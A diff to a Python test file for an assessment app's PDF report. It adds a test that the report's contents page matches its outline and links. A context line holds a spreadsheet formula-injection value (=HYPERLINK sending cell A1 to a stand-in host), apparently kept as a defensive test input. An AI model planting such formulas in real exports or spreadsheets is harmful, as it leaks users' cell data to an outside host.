@@ -11,7 +11,7 @@ from accredit.assessment.domain import Stage
 from tests.assessments import walk_to
 from tests.gap import workbook
 from tests.gap.making import measure
-from tests.pdf.reading import fonts, texts
+from tests.pdf.reading import fonts, lines, texts
 
 HOSTILE = '=HYPERLINK("https://example.org/?"&A1,"scope")'
 
@@ -79,8 +79,25 @@ def test_the_pdf_numbers_its_pages_and_has_an_outline(browse, cast, closed, lang
     assert len(pages) >= 4
     assert all(word in text and str(len(pages)) in text for text in pages)
     outline = [one for one in reader.outline if not isinstance(one, list)]
+    # The criteria and the bars stand in tables; only the KPI's figures need an appendix.
     assert len(outline) == 7
     assert all(fonts(page.body).values())
+
+
+def test_the_first_page_of_the_pdf_lists_the_parts_with_the_pages_they_begin_on(
+    browse, cast, closed
+):
+    data = browse(cast.leader).get(closed + "/report.pdf").body
+    reader = PdfReader(BytesIO(data))
+    parts = [one for one in reader.outline if not isinstance(one, list)]
+    shown = lines(data)
+    assert "Contents" in shown, shown
+    begin = shown.index("Contents") + 1
+    assert shown[begin : begin + len(parts)] == [
+        f"{one.title} {reader.get_destination_page_number(one) + 1}" for one in parts
+    ]
+    links = [one.get_object() for one in reader.pages[0].get("/Annots", [])]
+    assert len(links) == len(parts)
 
 
 def test_the_same_report_gives_the_same_files(browse, cast, closed):
